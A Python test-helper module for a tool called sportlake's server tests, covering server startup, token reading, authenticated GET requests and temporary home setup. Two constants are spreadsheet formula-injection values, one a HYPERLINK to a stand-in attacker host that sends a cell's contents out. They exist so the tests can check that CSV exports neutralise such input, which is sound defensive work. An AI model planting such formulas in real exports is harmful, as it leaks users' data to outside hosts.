"""What the serve tests share: the year of the lake, the formula name, a started server, tokens."""
import os
import pathlib
import subprocess
import tempfile
import urllib.error
import urllib.request

YEAR = 2025
# A name a spreadsheet would run: the CSV exports must neutralise it.
FORMULA_NOM = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
FORMULA_PRENOM = "@SUM(A1:A9)"
# Headless Chromium asks for en-US: the browser tests send this to get the French default.
FRENCH = "fr-FR,fr;q=0.9"


class Server:
    """`sportlake serve` started on a free port; `url` from its first line."""

    def __init__(self, sportlake, env, *args):
        self.proc = subprocess.Popen([sportlake, "serve", *args], env=env, stdout=subprocess.PIPE,
                                     stderr=subprocess.PIPE, text=True)
        self.first_line = self.proc.stdout.readline()
        assert self.first_line.startswith("dashboard: http://"), self.first_line + self.stop()
        self.url = self.first_line.split()[1].rstrip("/")

    def stop(self):
        self.proc.terminate()
        try:
            _, err = self.proc.communicate(timeout=30)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            _, err = self.proc.communicate()
        return err


def token(home, role):
    return (home / "serve" / f"{role}.token").read_text().strip()



def get(url, bearer=None, headers=None):
    """(status, headers, body) of a GET, with `Authorization: Bearer` when a token is given."""
    headers = dict(headers or {})
    if bearer:
        headers["Authorization"] = f"Bearer {bearer}"
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=30) as r:
            return r.status, r.headers, r.read().decode()
    except urllib.error.HTTPError as err:
        return err.code, err.headers, err.read().decode()


def new_home(build_dir, prefix):
    """A fresh SPORTLAKE_HOME under a temporary folder (offline distances, quiet log):
    (sportlake, env, base folder, run) where run(*args) returns stdout and raises on failure."""
    base = pathlib.Path(tempfile.mkdtemp(prefix=prefix))
    os.chmod(base, 0o755)
    e = dict(os.environ, SPORTLAKE_HOME=str(base / "home"), SPORTLAKE_LOG_LEVEL="warn")
    e.pop("API_KEY_MAPS", None)
    sportlake = str(build_dir / "src" / "cli" / "sportlake")

    def run(*args):
        return subprocess.run([sportlake, *map(str, args)], env=e, check=True, capture_output=True,
                              text=True, timeout=300).stdout
    return sportlake, e, base, run
